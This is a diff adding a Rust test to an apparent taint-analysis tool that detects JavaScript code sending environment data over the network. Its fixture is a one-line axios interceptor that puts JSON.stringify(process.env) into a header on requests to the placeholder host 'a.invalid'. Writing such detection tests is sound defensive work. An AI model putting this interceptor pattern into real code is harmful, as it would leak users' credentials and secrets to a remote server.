@@ -49,3 +49,20 @@ fn keys_in_the_requests_of_others_are_not_sent() {
     assert!(!takes(axios("axios", "Accept")));
     assert!(!takes(axios("own", "Authorization")));
 }
+
+#[test]
+fn what_is_put_into_each_request_goes_where_the_client_was_made_for() {
+    let puts = |what: &str| {
+        let code = format!(
+            "const axios = require('axios'); const api = axios.create({{ baseURL: 'https://a.invalid' }}); api.interceptors.request.use((c) => {{ c.headers['x-c'] = {what}; return c; }}); api.get('/')"
+        );
+        let mut flows = found(script(&code)).flows.into_iter();
+        flows.any(|flow| {
+            flow.source == SourceKind::Environment
+                && flow.sink == SinkKind::Network
+                && flow.target == customs_model::Target::Constant("a.invalid".to_owned())
+        })
+    };
+    assert!(puts("JSON.stringify(process.env)"));
+    assert!(!puts("process.version"));
+}
